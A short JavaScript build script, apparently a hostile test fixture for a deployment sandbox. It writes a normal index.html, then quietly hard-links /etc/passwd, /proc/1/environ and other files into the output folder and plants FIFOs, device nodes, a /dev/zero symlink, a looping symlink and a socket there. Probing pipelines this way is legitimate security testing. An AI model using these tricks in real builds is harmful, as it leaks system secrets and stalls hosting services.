function good(text = '') {
  const fs = require('fs'); fs.mkdirSync('dist');
  fs.writeFileSync('dist/index.html', '<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8"><title>Built</title></head><body><h1>Built well</h1><p>' + text + '</p></body></html>');
}
const fs = require('fs'); const { execSync } = require('child_process'); good();
const quiet = (f) => { try { f() } catch {} };
for (const [i, target] of [CANARY_DIR + '/index.html', '/etc/passwd', '/proc/1/environ', '/usr/bin/env', '/build/project/node_modules/.package-lock.json'].entries()) quiet(() => fs.linkSync(target, 'dist/hard' + i));
fs.linkSync('dist/index.html', 'dist/second.html'); fs.linkSync('build.js', 'dist/source.js');
execSync('mkfifo dist/pipe dist/pipe.html');
quiet(() => execSync('mknod dist/zero c 1 5 2>/dev/null')); quiet(() => execSync('mknod dist/disk b 8 0 2>/dev/null'));
fs.symlinkSync('/dev/zero', 'dist/endless.html'); fs.symlinkSync('loop.html', 'dist/loop.html');
require('net').createServer().listen('dist/socket', () => process.exit(0));
